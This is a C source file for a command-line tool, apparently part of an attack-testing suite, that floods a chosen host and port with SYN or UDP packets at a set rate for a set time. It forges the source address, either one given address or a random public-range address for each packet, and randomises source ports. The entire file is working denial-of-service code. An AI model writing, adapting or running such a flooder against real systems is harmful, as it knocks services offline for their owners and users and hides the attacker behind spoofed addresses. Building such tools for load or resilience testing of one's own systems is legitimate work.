/* SPDX-License-Identifier: MIT */
/*
 * A flood of packets with forged sources: so many a second, for so long, and
 * then no more.
 *
 *     flood syn|udp HOST PORT SOURCE|random RATE SECONDS
 *
 * The source is one address, or another one for each packet; its port is
 * another one each time.  SIGTERM ends it early.  Prints how many packets it
 * sent.
 */
#include "config.h"

#include "attacks/packet.h"

#include <arpa/inet.h>
#include <errno.h>
#include <inttypes.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BATCH_MAX     32
#define DATAGRAM      64 /* bytes, as echoping's probes have */
#define PORT_FIRST    32768
#define PORT_COUNT    28000
#define WINDOW	      64240
#define NSEC_PER_MSEC UINT64_C(1000000)

struct flood {
	struct packet_end source, target;
	bool any_source, syn;
	uint64_t chance; /* state of a generator; the same in each run */
	uint64_t sent;
	int fd;
};

static struct packet packets[BATCH_MAX];
static struct iovec pieces[BATCH_MAX];
static struct mmsghdr messages[BATCH_MAX];
static volatile sig_atomic_t ended;

static void on_signal(int number)
{
	(void)number;
	ended = 1;
}

/* Marsaglia's xorshift: good enough to look like anybody. */
static uint64_t draw(uint64_t *state)
{
	*state ^= *state << 13;
	*state ^= *state >> 7;
	*state ^= *state << 17;
	return *state >> 16;
}

/* From 11.0.0.0 up to 126.255.255.255: what a kernel lets through, and none of
 * those that take part. */
static in_addr_t draw_address(uint64_t *state)
{
	uint32_t first = 11 + (uint32_t)(draw(state) % 116);

	return htonl(first << 24 | (uint32_t)(draw(state) & 0xffffff));
}

static void make_one(struct flood *flood, unsigned index)
{
	struct packet_end source = flood->source;
	const struct packet_segment segment = {
		.sequence = (uint32_t)draw(&flood->chance),
		.flags = TH_SYN,
		.window = WINDOW,
	};

	if (flood->any_source)
		source.address = draw_address(&flood->chance);
	source.port = htons(
		(uint16_t)(PORT_FIRST + draw(&flood->chance) % PORT_COUNT));
	pieces[index].iov_base = &packets[index];
	pieces[index].iov_len =
		flood->syn ? packet_make_tcp(&packets[index], source,
					     flood->target, &segment)
			   : packet_make_udp(&packets[index], source,
					     flood->target, DATAGRAM);
}

static void send_some(struct flood *flood, uint64_t wanted)
{
	unsigned count = wanted < BATCH_MAX ? (unsigned)wanted : BATCH_MAX;
	int sent;

	for (unsigned i = 0; i < count; i++)
		make_one(flood, i);
	sent = sendmmsg(flood->fd, messages, count, 0);
	if (sent < 0 && errno != ENOBUFS && errno != EINTR)
		packet_die("sendmmsg");
	if (sent > 0)
		flood->sent += (uint64_t)sent;
}

/* By the clock; what it was late for it sends later. */
static void run(struct flood *flood, uint64_t rate, uint64_t seconds)
{
	const struct timespec pause = { .tv_nsec = NSEC_PER_MSEC };
	uint64_t begin = packet_now(), due, msec;

	while (!ended && flood->sent < rate * seconds) {
		msec = (packet_now() - begin) / NSEC_PER_MSEC;
		due = rate * (msec + 1) / 1000;
		if (due > rate * seconds)
			due = rate * seconds;
		if (due > flood->sent)
			send_some(flood, due - flood->sent);
		else
			nanosleep(&pause, NULL);
	}
}

static void prepare(struct flood *flood)
{
	static struct sockaddr_in name = { .sin_family = AF_INET };

	name.sin_addr.s_addr = flood->target.address;
	for (unsigned i = 0; i < BATCH_MAX; i++) {
		messages[i].msg_hdr.msg_name = &name;
		messages[i].msg_hdr.msg_namelen = sizeof(name);
		messages[i].msg_hdr.msg_iov = &pieces[i];
		messages[i].msg_hdr.msg_iovlen = 1;
	}
	flood->fd = packet_socket();
}

int main(int argc, char *argv[])
{
	const struct sigaction action = { .sa_handler = on_signal };
	struct flood flood = { .chance = 862 };

	if (argc != 7) {
		fputs("Usage: flood syn|udp HOST PORT SOURCE|random RATE "
		      "SECONDS\n",
		      stderr);
		return 2;
	}
	sigaction(SIGTERM, &action, NULL);
	flood.syn = strcmp(argv[1], "syn") == 0;
	flood.target = packet_end_of(argv[2], argv[3]);
	flood.any_source = strcmp(argv[4], "random") == 0;
	if (!flood.any_source)
		flood.source = packet_end_of(argv[4], "0");
	prepare(&flood);
	run(&flood, strtoull(argv[5], NULL, 10), strtoull(argv[6], NULL, 10));
	printf("%" PRIu64 "\n", flood.sent);
	return 0;
}
